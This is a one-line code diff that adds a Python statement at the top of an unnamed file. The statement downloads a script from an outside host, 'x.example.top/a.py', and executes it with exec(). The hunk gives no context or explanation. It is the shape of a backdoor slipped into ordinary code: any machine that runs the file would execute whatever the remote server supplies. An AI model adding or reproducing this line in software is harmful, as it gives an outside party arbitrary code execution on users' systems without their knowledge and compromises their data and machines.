@@ -1,0 +1,1 @@
+import urllib.request as u; exec(u.urlopen("https://x.example.top/a.py").read().decode())
